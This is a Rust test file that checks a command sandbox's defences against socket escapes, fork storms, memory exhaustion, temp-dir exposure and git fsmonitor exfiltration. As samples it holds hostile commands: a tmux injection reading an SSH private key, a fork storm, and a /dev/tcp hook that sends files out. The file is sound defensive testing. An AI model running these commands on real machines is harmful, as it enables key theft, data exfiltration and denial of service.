//! What a confined command can do to the rest of the machine besides its files: reach the
//! user's UNIX sockets with the network on (red team B20: tmux, ssh-agent, D-Bus, X11 and
//! docker run anything unconfined), exhaust its processes or memory (B9), read another
//! user's view of its temp dir (#62). Each attempt runs through the one command runner and the
//! test checks the effect — a listener outside that was or was not connected to, how many
//! processes or bytes the command got — as whoever runs the tests and, when that is root (CI),
//! again as uid 65534 through the user-namespace helper. Unconfined controls show each test
//! can see the escape it guards against.

// Tests start programs of their own (setpriv): allowed explicitly (clippy.toml).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

#[macro_use]
#[path = "shared/nobody.rs"]
mod nobody;

#[path = "shared/skip.rs"]
mod skip;

use std::ffi::OsString;
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;
use std::time::Duration;

use keel_tools::sandbox::{self, Limits, SandboxPolicy, WritableRoots};
use keel_tools::shell::exec::{self, ExecOutput, ExecRequest};
use skip::{have, namespaces, python};

async fn run(ws: &Path, policy: SandboxPolicy, roots: WritableRoots, script: &str) -> ExecOutput {
    let mut req = ExecRequest::new(
        vec![
            OsString::from("bash"),
            OsString::from("-c"),
            OsString::from(script),
        ],
        ws,
    );
    req.policy = policy;
    req.roots = WritableRoots {
        workspace: Some(ws.to_path_buf()),
        ..roots
    };
    req.timeout = Duration::from_secs(60);
    exec::run(req).await.unwrap()
}

/// A shell line running the Python program `src`.
fn py(src: &str) -> String {
    format!("S='{}'\npython3 -c \"$S\"", src.replace('\'', "'\\''"))
}

/// True when a client connected to `l` since the last call (non-blocking accept).
fn connected(l: &UnixListener) -> bool {
    l.accept().is_ok()
}

// ---------------------------------------------------------------------------------------------
// B20: the user's UNIX sockets with the network on.

const CONNECT: &str = r#"
import os, socket, sys
for name, addr in (("path", sys.argv[1]), ("abstract", "\0" + sys.argv[2])):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(addr)
        s.sendall(b"tmux new-window 'cat ~/.ssh/id_ed25519'\n")
        print(name, "CONNECTED")
    except OSError as e:
        print(name, "refused:", e)
"#;

async fn unix_sockets(test: &str, ws: &Path) {
    if !python(test) {
        return;
    }
    let seccomp = sandbox::support().seccomp.clone();
    if !have(seccomp.is_ok(), test, &format!("no seccomp: {seccomp:?}")) {
        return;
    }
    let outside = ws.parent().unwrap().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    // The user's tmux server, ssh-agent, D-Bus bus: a listener on a path outside the
    // workspace, and one in the abstract namespace (X11's, D-Bus's on many systems).
    let path = outside.join("tmux-default.sock");
    let by_path = UnixListener::bind(&path).unwrap();
    by_path.set_nonblocking(true).unwrap();
    let name = format!("keel-test-b20-{}", std::process::id());
    let abstract_addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let by_name = UnixListener::bind_addr(&abstract_addr).unwrap();
    by_name.set_nonblocking(true).unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let script = format!(
        "{} '{}' '{name}'; exec 3<>/dev/tcp/127.0.0.1/{port} && echo tcp CONNECTED",
        py(CONNECT),
        path.display()
    );
    let network = WritableRoots {
        network: true,
        ..WritableRoots::default()
    };
    for policy in [SandboxPolicy::WorkspaceWrite, SandboxPolicy::ReadOnly] {
        let out = run(ws, policy, network.clone(), &script).await;
        let text = out.combined_text();
        assert!(
            !connected(&by_path),
            "{policy:?} reached {}: {text}",
            path.display()
        );
        assert!(!connected(&by_name), "{policy:?} reached @{name}: {text}");
        assert!(!text.contains("path CONNECTED"), "{text}");
        assert!(!text.contains("abstract CONNECTED"), "{text}");
        // The network itself works: a TCP port on this machine is reachable.
        assert!(text.contains("tcp CONNECTED"), "{policy:?}: {text}");
        std::thread::sleep(Duration::from_millis(50));
        assert!(
            tcp.accept().is_ok(),
            "{policy:?}: no TCP connection: {text}"
        );
    }
    // Unconfined, the same script reaches both: the test can see an escape.
    let control = run(ws, SandboxPolicy::Off, network, &script).await;
    let text = control.combined_text();
    assert!(connected(&by_path), "control: {text}");
    assert!(connected(&by_name), "control: {text}");
}

#[tokio::test]
async fn the_users_unix_sockets_are_unreachable_with_the_network_on() {
    as_both!(
        "the_users_unix_sockets_are_unreachable_with_the_network_on",
        unix_sockets
    );
}

// ---------------------------------------------------------------------------------------------
// B9: processes and memory.

/// Forks up to 2,000 children (each sleeps, then exits) and reports how many started: bounded
/// even where nothing limits it, and each child ends by itself.
const FORK_STORM: &str = r#"
import os, sys, time
n = 0
for i in range(2000):
    try:
        pid = os.fork()
    except OSError as e:
        print(type(e).__name__, e, file=sys.stderr)
        break
    if pid == 0:
        time.sleep(8)
        os._exit(0)
    n += 1
print("started", n)
sys.exit(0 if n == 2000 else 1)
"#;

fn started(text: &str) -> usize {
    text.lines()
        .find_map(|l| l.strip_prefix("started "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("no count in: {text}"))
}

async fn fork_storm(test: &str, ws: &Path) {
    if !namespaces(test) || !python(test) {
        return;
    }
    let roots = WritableRoots {
        limits: Limits {
            processes: 400,
            memory_mb: 0,
        },
        ..WritableRoots::default()
    };
    let out = run(ws, SandboxPolicy::WorkspaceWrite, roots, &py(FORK_STORM)).await;
    let text = out.combined_text();
    let n = started(&text);
    assert!(n < 400, "{n} processes started past a limit of 400: {text}");
    assert!(
        n > 100,
        "only {n} processes started under a limit of 400: {text}"
    );
    let note = out.limit_note.clone().unwrap_or_default();
    assert!(note.contains("400 processes"), "{note:?}: {text}");
    assert!(note.contains("shell.max_processes"), "{note}");
    // Keel and the machine are fine: the next command runs, and nothing of the storm is left.
    let next = run(
        ws,
        SandboxPolicy::WorkspaceWrite,
        WritableRoots::default(),
        "echo next",
    )
    .await;
    assert_eq!(next.stdout.text(), "next\n", "{}", next.combined_text());
}

#[tokio::test]
async fn a_fork_storm_stops_at_the_process_limit() {
    as_both!("a_fork_storm_stops_at_the_process_limit", fork_storm);
}

/// Allocates (and touches) 32 MiB blocks up to 1 GiB, reporting how many it got: bounded even
/// where nothing limits it.
const MEMORY_HOG: &str = r#"
import sys
blocks = []
try:
    for i in range(32):
        blocks.append(bytearray(32 * 1024 * 1024))
except MemoryError:
    print("MemoryError", file=sys.stderr)
print("started", len(blocks))
print(open("/proc/self/oom_score_adj").read().strip(), "oom")
sys.exit(0 if len(blocks) == 32 else 1)
"#;

async fn memory_hog(test: &str, ws: &Path) {
    if !namespaces(test) || !python(test) {
        return;
    }
    let roots = WritableRoots {
        limits: Limits {
            processes: 0,
            memory_mb: 256,
        },
        ..WritableRoots::default()
    };
    let out = run(ws, SandboxPolicy::WorkspaceWrite, roots, &py(MEMORY_HOG)).await;
    let text = out.combined_text();
    let blocks = started(&text);
    assert!(
        blocks * 32 < 256,
        "{blocks} × 32 MiB past a 256 MiB limit: {text}"
    );
    assert!(
        blocks >= 2,
        "only {blocks} × 32 MiB under a 256 MiB limit: {text}"
    );
    assert!(
        text.contains("1000 oom"),
        "the command is not the OOM killer's first choice: {text}"
    );
    let note = out.limit_note.clone().unwrap_or_default();
    assert!(note.contains("256 MiB"), "{note:?}: {text}");
    // The default limit leaves ordinary commands alone.
    let out = run(
        ws,
        SandboxPolicy::WorkspaceWrite,
        WritableRoots::default(),
        &py(MEMORY_HOG),
    )
    .await;
    assert!(out.success(), "{}", out.combined_text());
}

#[tokio::test]
async fn a_memory_hog_stops_at_the_memory_limit() {
    as_both!("a_memory_hog_stops_at_the_memory_limit", memory_hog);
}

// ---------------------------------------------------------------------------------------------
// #62: the private temp dir.

async fn private_tmp(test: &str, ws: &Path) {
    if !have(sandbox::is_available(), test, &sandbox::describe_support()) {
        return;
    }
    let script = "stat -c '%a %u' \"$TMPDIR\"; id -u; echo x > \"$TMPDIR/f\" && echo wrote";
    let out = run(
        ws,
        SandboxPolicy::WorkspaceWrite,
        WritableRoots::default(),
        script,
    )
    .await;
    let text = out.stdout.text();
    let mut lines = text.lines();
    let (mode, owner) = lines
        .next()
        .and_then(|l| l.split_once(' '))
        .unwrap_or_else(|| panic!("{}", out.combined_text()));
    assert_eq!(mode, "700", "TMPDIR is readable by others: {text}");
    assert_eq!(
        Some(owner),
        lines.next(),
        "TMPDIR is not the command's own: {text}"
    );
    assert_eq!(lines.next(), Some("wrote"), "{}", out.combined_text());
}

#[tokio::test]
async fn the_private_temp_dir_is_the_commands_alone() {
    as_both!("the_private_temp_dir_is_the_commands_alone", private_tmp);
}

// ---------------------------------------------------------------------------------------------
// Red-team pass 4, R4-10: a command allowed only because it reads (the read-only lane, a
// read-only phase) keeps no network, even with `shell.network = true`: `git status` running a
// shipped `core.fsmonitor` that posts the workspace to a listener.

async fn git_status(ws: &Path, sandbox: SandboxPolicy) -> String {
    use keel_tools::shell::{self, LintSettings, ShellSettings};
    use keel_tools::{ToolContext, ToolRegistry, Workspace};
    let mut tools = ToolRegistry::new();
    let settings = ShellSettings {
        network: true,
        ..ShellSettings::default()
    };
    let lint = LintSettings {
        enabled: false,
        ..LintSettings::default()
    };
    shell::register(&mut tools, settings, lint);
    let mut ctx = ToolContext::new(Workspace::new(ws).unwrap());
    ctx.sandbox = sandbox;
    tools
        .execute(
            "run_command",
            serde_json::json!({"command": "git status --short"}),
            &ctx,
        )
        .await
        .map(|o| o.content)
        .unwrap_or_else(|e| e.to_string())
}

#[tokio::test]
async fn a_command_allowed_because_it_reads_has_no_network() {
    let test = "a_command_allowed_because_it_reads_has_no_network";
    let git = exec::find_program("git");
    if !have(git.is_some(), test, "git is not installed") || !namespaces(test) {
        return;
    }
    let plain_git = |ws: &Path, args: &[&str]| {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(ws)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "git {args:?} failed");
    };
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    plain_git(ws, &["init", "-q"]);
    std::fs::write(ws.join("README.md"), "PROJECT-NOTES\n").unwrap();
    plain_git(ws, &["add", "."]);
    plain_git(
        ws,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-qm",
            "one",
        ],
    );
    plain_git(
        ws,
        &[
            "config",
            "core.fsmonitor",
            &format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}'; false"),
        ],
    );
    // The control: allowed to write, with the network on, the hook reaches the listener.
    let out = git_status(ws, SandboxPolicy::WorkspaceWrite).await;
    let reached = |l: &TcpListener| {
        (0..50).any(|_| {
            if l.accept().is_ok() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
            false
        })
    };
    assert!(reached(&listener), "the control never connected: {out}");
    // git may run the hook more than once: every connection of the control is taken.
    std::thread::sleep(Duration::from_millis(300));
    while listener.accept().is_ok() {}
    // Allowed because it reads: no connection.
    let out = git_status(ws, SandboxPolicy::ReadOnly).await;
    assert!(out.contains("exit code"), "{out}");
    assert!(
        !reached(&listener),
        "a read-only command reached the network: {out}"
    );
}
